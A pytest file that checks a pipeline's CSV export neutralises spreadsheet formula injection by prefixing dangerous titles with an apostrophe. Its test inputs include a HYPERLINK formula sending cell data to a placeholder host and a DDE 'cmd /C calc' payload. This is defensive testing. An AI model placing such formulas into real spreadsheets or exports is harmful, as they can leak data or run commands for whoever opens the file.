"""Tables as files: a spreadsheet runs no word of a page, and nobody's numbers are touched."""

from __future__ import annotations

import csv
from pathlib import Path

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.model import TABLES, Source
from pipeline.publishing.columns import to_arrow
from pipeline.publishing.tables import export_tables
from tests.publishing.held_parts import publish_tables

STARTS = tuple("=+-@\t\r\n＝＋－＠")


def exported(folder: Path, *titles: str) -> dict[str, str]:
    """The title of each source, by its name, as CSV has it."""
    rows = [Source(source_id=f"s{at}", title=title, kind="page") for at, title in enumerate(titles)]
    held = {table.name: to_arrow(table.record, rows if table.name == "sources" else []) for table in TABLES}
    publish_tables(held, folder / "claims.duckdb")
    export_tables(folder / "claims.duckdb", folder / "csv", "csv")
    with (folder / "csv" / "sources.csv").open(encoding="utf-8", newline="") as stream:
        return {row["source_id"]: row["title"] for row in csv.DictReader(stream)}


@pytest.mark.parametrize(
    "title",
    ['=HYPERLINK("http://e.example/?"&A1,"more")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\r=1", "＝1+1"],
)
def test_a_title_that_a_spreadsheet_would_run_is_led_by_an_apostrophe(tmp_path: Path, title: str) -> None:
    assert exported(tmp_path, title) == {"s0": f"'{title}"}


@pytest.mark.parametrize("title", ["-5", "+49", "-1,250.5", "-3.5%", "3 boats", "a = b", "'tis", "["])
def test_numbers_and_other_words_stay_as_they_are(tmp_path: Path, title: str) -> None:
    assert exported(tmp_path, title) == {"s0": title}


@settings(max_examples=15, deadline=None)
@given(
    titles=st.lists(
        st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\0"), min_size=1), min_size=1
    )
)
def test_no_text_begins_a_formula_and_without_the_apostrophe_it_is_what_it_was(
    tmp_path_factory: pytest.TempPathFactory, titles: list[str]
) -> None:
    folder = tmp_path_factory.mktemp("tables")
    found = exported(folder, *titles)
    for at, title in enumerate(titles):
        cell = found[f"s{at}"]
        assert cell in (title, f"'{title}")
        assert not cell.startswith(STARTS) or cell[1:].rstrip("%").replace(",", "").replace(".", "").isdigit()


def test_parquet_has_every_word_as_it_is(tmp_path: Path) -> None:
    exported(tmp_path, "=1+1")
    export_tables(tmp_path / "claims.duckdb", tmp_path / "parquet", "parquet")
    read = duckdb.sql(f"SELECT title FROM '{tmp_path}/parquet/sources.parquet'").fetchall()
    assert read == [("=1+1",)]
